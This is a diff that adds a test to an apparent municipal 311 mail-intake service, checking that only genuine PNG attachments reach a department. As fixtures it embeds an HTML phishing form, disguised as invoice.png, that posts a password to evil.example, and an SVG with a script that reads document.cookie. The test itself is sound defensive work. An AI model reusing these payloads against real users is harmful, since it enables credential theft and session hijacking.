@@ -311,4 +311,44 @@ describe('forged and hostile mail (issue 9)', () => {
     const failed = await t.system.queues.queue('notify').getFailedCount();
     expect(failed).toBe(0);
   });
+
+  it('finding 9: only attachments whose bytes are a raster image are forwarded to the department; HTML posing as a PNG and SVG with script are kept for staff', async () => {
+    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+    const part = (type: string, name: string, body: string) => [
+      '--b1', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`, 'Content-Transfer-Encoding: base64', '', body, '',
+    ];
+    const messageId = `${uniq()}@resident.example`;
+    houseNumber += 7;
+    await t.dovecot.append([
+      'From: hal@resident.example',
+      'To: cityline311@danbury.example',
+      'Subject: pothole',
+      `Message-ID: <${messageId}>`,
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary="b1"',
+      '',
+      '--b1',
+      'Content-Type: text/plain; charset=utf-8',
+      '',
+      `There is a deep pothole in front of ${houseNumber} Padanaram Road, photos attached.`,
+      '',
+      ...part('image/png', 'hole.png', png),
+      ...part('image/png', 'invoice.png', Buffer.from('<html><body><form action="http://evil.example/login"><input name="password"></form></body></html>').toString('base64')),
+      ...part('image/svg+xml', 'map.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>').toString('base64')),
+      '--b1--',
+      '',
+    ].join('\r\n'));
+    const req = await t.requestFor(messageId);
+    const ticket = await t.smtp.waitFor((m) => m.envelopeTo.includes('highway@danbury.example') && (m.parsed.subject ?? '').includes(req.trackingNumber), 20_000);
+    expect(ticket.parsed.attachments.map((a) => a.filename)).toEqual(['hole.png']);
+    expect(ticket.parsed.text).toMatch(/NOT ATTACHED \(2: not verified images/);
+    expect(ticket.parsed.text).toContain('invoice.png');
+    expect(ticket.parsed.text).toContain('map.svg');
+    // Staff still have all three.
+    const { rows } = await t.db.pool.query<{ filename: string; forwardable: boolean }>(
+      `SELECT a.filename, a.forwardable FROM attachments a JOIN inbound_messages i ON i.id = a.inbound_message_id WHERE i.message_id = $1 ORDER BY a.part_index`,
+      [messageId],
+    );
+    expect(rows).toEqual([{ filename: 'hole.png', forwardable: true }, { filename: 'invoice.png', forwardable: false }, { filename: 'map.svg', forwardable: false }]);
+  });
 });
